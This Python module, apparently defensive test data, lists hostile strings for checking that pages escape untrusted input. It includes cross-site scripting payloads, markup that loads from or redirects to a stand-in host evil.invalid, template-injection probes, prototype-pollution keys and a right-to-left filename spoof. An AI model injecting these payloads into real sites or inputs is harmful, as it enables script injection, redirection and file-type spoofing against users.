"""Text that has hurt pages before: markup, scripts, addresses, directions, shapes."""

from __future__ import annotations

from typing import Final

HOSTILE: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.invalid/x></object>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href=http://evil.invalid/>",
    "<style>*{display:none}</style>",
    "<form action=http://evil.invalid/><button>go</button></form>",
    "<math><mtext></math><a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--", "-->", "]]>", "<![CDATA[<script>alert(1)</script>]]>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.invalid/x", "http://evil.invalid/x.png",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "\u2028alert(1)\u2029",
    "${alert(1)}", "{{ 7*7 }}{% raw %}", "`alert(1)`", "');alert(1);//", "__proto__", "constructor",
    "\u202eevil\u202c gnp.exe", "\u2066\u2067\u2068\u0627\u0644", "a\u0300" * 300, "W" * 5000,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 40,
    "\x00\x01\x1b[31m", "line\r\nline\n\n\n\n\n\nline", "..%2f..%2f#?&=",
)  # fmt: skip
